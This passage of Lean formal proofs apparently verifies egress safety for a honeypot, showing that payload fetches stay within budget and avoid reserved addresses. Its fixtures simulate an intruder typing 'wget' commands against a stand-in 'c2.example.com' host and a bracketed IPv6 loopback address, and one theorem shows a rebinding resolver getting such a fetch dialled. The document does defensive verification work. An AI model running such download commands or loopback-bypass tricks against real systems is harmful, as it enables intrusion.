    omega

theorem move_budgeted (move : Move platform before last after) (texts : HostTexts platform.parseUrl)
    (sound : ∀ fetch ∈ last, Reliable fetch.io) (budgeted : Budgeted platform root config made before) :
    Budgeted platform root config (made ++ last) after := by
  cases move with
  | edit cmdBuffer escapeSeq escapeLen lastByte =>
    rw [List.append_nil]
    exact budgeted.quiet (Grows.refl _ _) rfl ⟨budgeted.rooted.plain,budgeted.rooted.rooted⟩ rfl rfl
  | remark effect remark =>
    rw [List.append_nil]
    exact budgeted.quiet (Grows.one _ (remark_offline effect remark)) rfl ⟨budgeted.rooted.plain,budgeted.rooted.rooted⟩ rfl rfl
  | shell io cmd =>
    have works := runShell_works platform io cmd before budgeted.rooted
    rw [List.append_nil]
    exact budgeted.quiet (works.grows.weaken shell_offline) rfl (works.rooted budgeted.rooted) rfl rfl
  | fetch io cmd url open_ left =>
    refine startFetch_budgeted platform io cmd url texts ?_ budgeted open_ left
    intro waited
    exact sound ⟨io.fetch,url⟩ (by simp [waited])
  | finish io =>
    obtain ⟨sandbox,session⟩ := teardown_session platform io before
    rw [List.append_nil]
    refine budgeted.quiet (teardown_offline platform io before) (by rw [session]) ⟨?_,?_⟩ rfl (by rw [session])
    · rw [session]
      exact budgeted.rooted.plain
    · rw [session]
      exact budgeted.rooted.rooted
  | land io =>
    refine fetchLands_budgeted platform io texts ?_ budgeted
    intro waiting
    obtain ⟨job,rest,same⟩ := List.exists_cons_of_ne_nil waiting
    exact sound ⟨io,job.url⟩ (by simp [same])

def Holds (platform : Platform) (root : Path) (config : SessionConfig) (made : List Fetch) (world : World) : Prop :=
  (∀ fetch ∈ made, Reliable fetch.io) → Budgeted platform root config made world

theorem run_holds (platform : Platform) (texts : HostTexts platform.parseUrl) (callbacks : List Callback)
    (start : Holds platform root config known world) :
    Holds platform root config (known ++ fetches platform callbacks world) (run platform callbacks world) := by
  refine run_keeps ?_ ?_ callbacks known world start
  · intro made world last next move held sound
    rw [List.forall_mem_append] at sound
    exact move_budgeted move texts sound.2 (held sound.1)
  · intro made world now held sound
    have budgeted := held sound
    exact budgeted.quiet (Grows.one _ (emitted_offline _)) rfl ⟨budgeted.rooted.plain,budgeted.rooted.rooted⟩ rfl rfl

-- Every run keeps to its budget, and dials nothing but what its own lookups have
-- vetted unless one of its fetches is deceived.
theorem egress_exact (platform : Platform) (info : SessionMeta) (config : SessionConfig) (forensics : ForensicsEngine)
    (sandbox : Option SandboxHandle) (rootfs : Path) (layer : Layer) (callbacks : List Callback)
    (texts : HostTexts platform.parseUrl)
    (sound : ∀ fetch ∈ fetches platform callbacks (admitted info config forensics sandbox rootfs layer), Reliable fetch.io) :
    (connections (run platform callbacks (admitted info config forensics sandbox rootfs layer)).host.log).length ≤
      (if config.fetchPayloads then config.maxFetchesPerSession else 0) ∧
    (Clean Vetted (run platform callbacks (admitted info config forensics sandbox rootfs layer)).host.log ↔
      ∀ fetch ∈ fetches platform callbacks (admitted info config forensics sandbox rootfs layer), ¬ Deceives platform fetch) := by
  obtain ⟨root,consistent⟩ := admitted_consistent info config forensics sandbox rootfs layer
  have start : Budgeted platform root config [] (admitted info config forensics sandbox rootfs layer) :=
    ⟨rfl,consistent.rooted,iff_of_true trivial (by simp),Nat.le_refl 0,Nat.zero_le _⟩
  have kept := run_holds platform texts callbacks (fun _ => start) sound
  have spent := kept.spent
  have limit := kept.limit
  refine ⟨?_,kept.clean⟩
  change _ ≤ allowance config
  omega

-- A host name and the texts of two addresses, on a network that answers.
def webAddress : IpAddr := .v4 93 184 216 34

def webPlatform : Platform where
  kernel := upperOnly
  overlay := overlayAt [] "7".toList false
  sha256 _ := []
  parseUrl text :=
    if text = "http://c2.example.com/x".toList then
      some ⟨"http".toList,some "c2.example.com".toList,none,some 80,some ['x']⟩
    else if text = "http://93.184.216.34/x".toList then
      some ⟨"http".toList,some "93.184.216.34".toList,some webAddress,some 80,some ['x']⟩
    else if text = "http://[::1]/x".toList then
      some ⟨"http".toList,some "[::1]".toList,some (.v6 0 1),some 80,some ['x']⟩
    else none
  geoip _ := none

def webFetch : FetchIo where
  resolve name _ := if name = "c2.example.com".toList then .ok [webAddress] else .error "unknown".toList
  builds := true
  dials url target := [(url.literal.getD target.1,target.2)]
  answer _ _ := some ⟨none,[some [0x7f],some []]⟩
  quarantines := true
  saves := true

-- A resolver that finds one address for every name.
def reboundFetch : FetchIo := {webFetch with resolve := fun _ _ => .ok [.v4 8 8 8 8]}

theorem web_texts : HostTexts webPlatform.parseUrl where
  v4 text url a b c d parsed spelled := by
    simp only [webPlatform] at parsed
    split at parsed
    · cases parsed
      cases spelled
    · split at parsed
      · cases parsed
        cases spelled
        decide
      · split at parsed
        · cases parsed
          cases spelled
        · cases parsed
  v6 text url high low parsed spelled := by
    simp only [webPlatform] at parsed
    split at parsed
    · cases parsed
      cases spelled
    · split at parsed
      · cases parsed
        cases spelled
      · split at parsed
        · cases parsed
          exact ⟨_,rfl⟩
        · cases parsed

theorem single_reliable (io : FetchIo) (dials : io.dials = webFetch.dials) : Reliable io where
  once url target := by
    rw [dials]
    exact Nat.le_refl 1
  pinned url target named address member := by
    rw [dials] at member
    rw [List.mem_singleton.mp member,named]
    rfl
  literal url target ip spelled address member := by
    rw [dials] at member
    rw [List.mem_singleton.mp member,spelled]
    rfl

def webIo : ByteIo := {plainIo with fetch := webFetch}

def typing (fetch : FetchIo) (line : String) : Callback :=
  .data ((encode line.toList).map (fun byte => (byte,{plainIo with fetch := fetch})))

def webVisitor : World := admitted ⟨"7",webAddress,40022⟩ ⟨"./quarantine".toList,true,2,1024⟩ ⟨"./quarantine".toList,6,1024⟩ none
  ["rootfs".toList] ⟨scriptDirs,none⟩

-- What no name server answers deceives nobody.
theorem web_honest (text : Text) : ¬ Deceives webPlatform ⟨webFetch,text⟩ := by
  rintro ⟨url,name,port,first,others,deceived⟩
  obtain ⟨high,low,spelled,_⟩ := deceived.other
  have named : name = "c2.example.com".toList := by
    by_contra other
    have answered : (if name = "c2.example.com".toList then Except.ok [webAddress] else .error "unknown".toList) =
        .ok (first :: others) := deceived.answered
    rw [if_neg other] at answered
    cases answered
  obtain ⟨rest,bracket⟩ := web_texts.v6 text url high low deceived.parsed spelled
  rw [lookupOf_host deceived.looked,named] at bracket
  cases Option.some.inj bracket

def webCallbacks : List Callback :=
  [.shellRequest 0 (fun _ => true),typing webFetch "wget http://c2.example.com/x\rwget http://[::1]/x\r",.fetchLands webFetch]

theorem web_egress_vetted : (connections (run webPlatform webCallbacks webVisitor).host.log).length ≤ 2 ∧
    Clean Vetted (run webPlatform webCallbacks webVisitor).host.log := by
  have only : ∀ fetch ∈ fetches webPlatform webCallbacks webVisitor, fetch.io = webFetch := by
    refine fetches_allowed (· = webFetch) webPlatform webCallbacks webVisitor ?_
    intro callback member
    simp only [webCallbacks,List.mem_cons,List.not_mem_nil,or_false] at member
    rcases member with rfl | rfl | rfl
    · trivial
    · intro received typed
      obtain ⟨byte,_,rfl⟩ := List.mem_map.mp typed
      rfl
    · rfl
  have egress := egress_exact webPlatform ⟨"7",webAddress,40022⟩ ⟨"./quarantine".toList,true,2,1024⟩
    ⟨"./quarantine".toList,6,1024⟩ none ["rootfs".toList] ⟨scriptDirs,none⟩ webCallbacks web_texts
    (fun fetch member => single_reliable _ (by rw [only fetch member]))
  rw [if_pos rfl,← webVisitor] at egress
  obtain ⟨few,exactly⟩ := egress
  refine ⟨few,?_⟩
  rw [exactly]
  rintro ⟨io,text⟩ member
  cases only _ member
  exact web_honest text

theorem clean_unreserved (clean : CleanAfter Vetted past log) (member : (ip,port) ∈ connections log) : ¬ Reserved ip := by
  induction log generalizing past with
  | nil => cases member
  | cons effect rest ih =>
    obtain ⟨vetted,clean⟩ := clean
    obtain ⟨dialled,here,same⟩ := List.mem_filterMap.mp member
    rcases List.mem_cons.mp here with rfl | later
    · cases dialled with
      | dialled other _ =>
        cases same
        obtain ⟨_,_,_,_,free⟩ := vetted
        exact free
      | _ => cases same
    · exact ih clean (List.mem_filterMap.mpr ⟨dialled,later,same⟩)

-- The loopback address in brackets, and a resolver that answers any name.
theorem bracket_dialled :
    let log := (run webPlatform [typing reboundFetch "wget http://[::1]/x\r"] webVisitor).host.log
    HostTexts webPlatform.parseUrl ∧ Reliable reboundFetch ∧ connections log = [(.v6 0 1,80)] ∧ ¬ Clean Vetted log := by
  intro log
  have dialled : connections log = [(.v6 0 1,80)] := by decide +kernel
  refine ⟨web_texts,single_reliable _ rfl,dialled,?_⟩
  clear_value log
  intro clean
  have reserved : Reserved (.v6 0 1) := (blocked_exact _).mp (by decide)
  have member : ((.v6 0 1,80) : IpAddr × UInt16) ∈ connections log := dialled ▸ List.mem_cons_self
  exact clean_unreserved clean member reserved

end AegisHoneypot.EgressSafety
